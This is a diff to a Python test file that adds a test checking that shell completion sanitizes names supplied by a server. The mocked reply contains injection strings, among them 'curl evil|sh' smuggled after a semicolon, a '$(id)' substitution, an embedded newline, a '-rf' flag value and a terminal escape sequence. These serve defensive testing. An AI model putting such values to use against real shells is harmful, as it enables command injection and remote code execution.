@@ -77,6 +77,20 @@ def test_names_of_sites_come_from_the_server(asked, chosen):
     assert asked == [(str(chosen), "sites")]
 
 
+def test_a_server_writes_no_command_onto_the_line_of_a_shell(chosen, monkeypatch):
+    async def ask(_kit, _what):
+        return [
+            ("hospital;curl evil|sh", ""),
+            ("hospital$(id)", ""),
+            ("hospital\nplain,x", ""),
+            ("-rf", ""),
+            ("hospital", "con\033[2J"),
+        ]
+
+    monkeypatch.setattr(completion, "_ask", ask)
+    assert complete("site", "show", "") == [("plain", "hospital", "con\N{REPLACEMENT CHARACTER}[2J")]
+
+
 @pytest.mark.parametrize("verb", ["show", "wait", "logs", "abort", "download", "why"])
 def test_ids_of_jobs_are_completed_newest_first(asked, chosen, verb):
     assert values("job", verb, "") == ["last", "1rx3b", "1rx3a"]
